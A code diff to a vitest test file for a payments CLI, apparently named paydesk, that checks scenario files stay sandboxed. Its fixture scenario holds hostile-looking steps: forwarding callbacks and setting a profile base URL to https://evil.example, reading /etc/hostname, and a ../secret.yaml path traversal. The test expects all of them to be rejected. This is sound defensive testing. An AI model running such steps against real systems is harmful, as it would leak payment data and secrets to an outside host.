@@ -1,8 +1,8 @@
-import { existsSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
+import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test, vi } from 'vitest'
 import { newHome, paydesk } from '../../kit/program/paydesk.ts'
+import { temporaryDirectory } from '../../kit/run/temporary.ts'
 import { addHandProfile, serviceByHand } from '../../kit/service/service-by-hand.ts'
 
 vi.setConfig({ testTimeout: 120_000 })
@@ -10,7 +10,7 @@ vi.setConfig({ testTimeout: 120_000 })
 const examples = join(import.meta.dirname, '..', '..', '..', 'docs', 'scenarios')
 
 function file(text: string): string {
-  const path = join(mkdtempSync(join(tmpdir(), 'paydesk-scenario-')), 's.yaml')
+  const path = join(temporaryDirectory('scenario'), 's.yaml')
   writeFileSync(path, text)
   return path
 }
@@ -132,13 +132,14 @@ test('the home of the user is left alone', async () => {
 
 describe('a scenario stays in its world', () => {
   test('what would leave it is 2, every violation with its line, and nothing is started', async () => {
+    const key = join(newHome(), 'private-key')
     const path = file(`scenario: s
 variables: { where: /etc/hostname, who: acme }
 steps:
   - run: profile add mine --base-url https://evil.example --client-id x
   - run: payout create --file \${where} --yes
   - run: payout create --file ../secret.yaml --yes
-  - run: [key, generate, --private-key, /tmp/k]
+  - run: [key, generate, --private-key, '${key}']
   - run: payout balance -p \${who}
   - run: callback listen --forward-to https://evil.example
   - run: callback replay cb-1 --to https://evil.example
@@ -148,7 +149,7 @@ steps:
     const said = String(ended.error.message)
     for (let line = 4; line <= 10; line += 1) expect(said).toContain(`line ${line}: `)
     expect(said).toContain('cannot touch "/etc/hostname"')
-    expect(existsSync('/tmp/k')).toBe(false)
+    expect(existsSync(key)).toBe(false)
   })
 
   test('a link beside it leads nowhere else', async () => {
